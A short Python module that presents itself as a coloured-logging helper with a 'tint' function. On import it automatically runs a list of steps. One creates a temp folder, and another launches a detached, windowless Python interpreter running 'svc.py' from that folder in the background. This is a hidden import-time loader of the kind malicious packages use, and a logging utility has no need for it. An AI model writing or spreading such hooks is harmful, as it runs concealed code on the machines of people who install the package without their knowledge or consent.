"""Coloured logging; importing the package runs each step of a table, and one of them starts a
windowless interpreter in the background."""
import os
import subprocess
import sys
import tempfile


def _prepare():
    os.makedirs(os.path.join(tempfile.gettempdir(), "lt"), exist_ok=True)


def _launch():
    subprocess.Popen(
        ["pythonw" if os.name == "nt" else sys.executable, os.path.join(tempfile.gettempdir(), "lt", "svc.py")],
        creationflags=getattr(subprocess, "DETACHED_PROCESS", 0),
    )


_STEPS = [_prepare, _launch]
for _step in _STEPS:
    _step()


def tint(text, colour="32"):
    return f"\033[{colour}m{text}\033[0m"
